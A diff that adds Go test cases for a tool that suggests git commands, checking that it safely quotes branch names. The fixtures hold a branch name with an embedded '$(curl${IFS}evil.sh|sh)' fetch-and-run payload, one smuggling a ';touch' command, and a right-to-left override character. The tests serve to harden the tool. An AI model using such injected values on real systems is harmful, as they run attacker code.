@@ -51,6 +51,23 @@ func TestEvaluateBase(t *testing.T) {
 			contains:   []string{"behind untagged cafecaf", "git rebase --onto cafecafecafecafe old hotfix/x", "production commit"},
 		},
 		{
+			name: "a branch name that would run a command, and commit titles that mention a team",
+			facts: BaseFacts{Branch: "hotfix/$(curl${IFS}evil.sh|sh)", Production: prod, MergeBase: prod.SHA,
+				Unreleased: []UnreleasedCommits{{Branch: "release/1.5;touch${IFS}x", Count: 1, ForkPoint: "fp",
+					Commits: []Commit{{"c1c1c1c1c1", "Ping @acme/everyone `now`"}}}}},
+			conclusion: Failure,
+			contains: []string{"git rebase --onto v1.4.2 fp 'hotfix/$(curl${IFS}evil.sh|sh)'",
+				"git push --force-with-lease origin 'hotfix/$(curl${IFS}evil.sh|sh)'",
+				"git switch -c 'hotfix/$(curl${IFS}evil.sh|sh)-2' v1.4.2", "from `release/1.5;touch${IFS}x`",
+				"Ping @\u200dacme/everyone 'now'"},
+		},
+		{
+			name:       "a branch name no quoting makes safe",
+			facts:      BaseFacts{Branch: "hotfix/\u202eevil", Production: prod, MergeBase: "old", BehindBy: 1},
+			conclusion: Failure,
+			contains:   []string{"prints no command", "invisible formatting", "git branch -m"},
+		},
+		{
 			name:       "fork",
 			facts:      BaseFacts{Branch: "hotfix/evil", Production: prod, ForkRepo: "mallory/pay"},
 			conclusion: Failure,
@@ -74,6 +91,9 @@ func TestEvaluateBase(t *testing.T) {
 				if !strings.Contains(text, want) {
 					t.Errorf("missing %q in:\n%s", want, text)
 				}
+			}
+			if strings.Contains(tt.facts.Branch, "\u202e") && strings.Contains(text, "git rebase") {
+				t.Errorf("a command with a name that shows other than what runs:\n%s", text)
 			}
 		})
 	}
